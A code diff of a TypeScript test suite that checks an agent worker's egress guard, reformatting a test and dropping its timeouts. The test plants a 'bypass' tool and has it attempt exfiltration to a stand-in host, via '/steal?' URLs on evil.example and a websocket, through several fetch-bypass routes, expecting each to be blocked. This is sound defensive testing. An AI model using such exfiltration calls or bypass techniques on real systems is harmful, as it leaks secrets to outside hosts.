@@ -158,7 +158,7 @@ beforeAll(async () => {
   for (const mode of ['direct', 'loader'] as const) {
     workers[mode] = await startCompiledWorker(compiled.outDir, { mode, upstreams: { [ALLOWED]: allowed.url, [EVIL]: evil.url } });
   }
-}, 120_000);
+});
 afterAll(async () => {
   for (const worker of Object.values(workers)) await worker?.dispose();
   await allowed?.close();
@@ -187,36 +187,32 @@ function expectBlocked(answer: Awaited<ReturnType<typeof askWithSdk>>, host = 'e
 }
 
 describe('egress bypasses from a quarantined child (its own isolate, its own guard)', () => {
-  it.each(['direct', 'loader'] as const)(
-    '%s: a hostile tool in text-digest/text-classify reaches nothing outside its allow-list',
-    async (mode) => {
-      const tools = JSON.parse(ws.read('tools.json')) as { tools: Record<string, { module: string; export: string }> };
-      const saved = tools.tools['text-classify']!;
-      tools.tools['text-classify'] = { module: './examples/tools/bypass.ts', export: 'bypass' };
-      ws.write('tools.json', JSON.stringify(tools, null, 2));
-      let worker: StartedWorker | undefined;
-      try {
-        const compiled = await compileWorker(ws.root, 'text-digest', { outDir: join(ws.root, 'dist', `digest-${mode}`) });
-        expect(compiled.result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
-        const keys = await generateReceiptKeyPair();
-        worker = await startCompiledWorker(compiled.outDir, { mode, secrets: { AGENTDEF_RECEIPT_KEY: JSON.stringify(keys.privateJwk) }, upstreams: { [ALLOWED]: allowed.url, [EVIL]: evil.url } });
-        for (const name of ['global-fetch', 'proto-fetch', 'captured-fetch', 'websocket']) {
-          const url = name === 'websocket' ? `wss://evil.example/socket?${SECRET_QUERY}` : `${EVIL}/steal?${SECRET_QUERY}`;
-          const answer = await askWithSdk(worker.url, JSON.stringify({ attack: name, url }));
-          expect(answer.state, name).toBe(TaskState.TASK_STATE_FAILED);
-        }
-        expectNothingReachedEvil(worker);
-        const logged = worker.logs.join('');
-        expect(logged).toContain('"event":"egress.blocked"');
-        expect(logged).toContain('"host":"evil.example"');
-      } finally {
-        await worker?.dispose();
-        tools.tools['text-classify'] = saved;
-        ws.write('tools.json', JSON.stringify(tools, null, 2));
+  it.each(['direct', 'loader'] as const)('%s: a hostile tool in text-digest/text-classify reaches nothing outside its allow-list', async (mode) => {
+    const tools = JSON.parse(ws.read('tools.json')) as { tools: Record<string, { module: string; export: string }> };
+    const saved = tools.tools['text-classify']!;
+    tools.tools['text-classify'] = { module: './examples/tools/bypass.ts', export: 'bypass' };
+    ws.write('tools.json', JSON.stringify(tools, null, 2));
+    let worker: StartedWorker | undefined;
+    try {
+      const compiled = await compileWorker(ws.root, 'text-digest', { outDir: join(ws.root, 'dist', `digest-${mode}`) });
+      expect(compiled.result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
+      const keys = await generateReceiptKeyPair();
+      worker = await startCompiledWorker(compiled.outDir, { mode, secrets: { AGENTDEF_RECEIPT_KEY: JSON.stringify(keys.privateJwk) }, upstreams: { [ALLOWED]: allowed.url, [EVIL]: evil.url } });
+      for (const name of ['global-fetch', 'proto-fetch', 'captured-fetch', 'websocket']) {
+        const url = name === 'websocket' ? `wss://evil.example/socket?${SECRET_QUERY}` : `${EVIL}/steal?${SECRET_QUERY}`;
+        const answer = await askWithSdk(worker.url, JSON.stringify({ attack: name, url }));
+        expect(answer.state, name).toBe(TaskState.TASK_STATE_FAILED);
       }
-    },
-    60_000,
-  );
+      expectNothingReachedEvil(worker);
+      const logged = worker.logs.join('');
+      expect(logged).toContain('"event":"egress.blocked"');
+      expect(logged).toContain('"host":"evil.example"');
+    } finally {
+      await worker?.dispose();
+      tools.tools['text-classify'] = saved;
+      ws.write('tools.json', JSON.stringify(tools, null, 2));
+    }
+  });
 });
 
 describe('bundle-time refusals for Workers', () => {
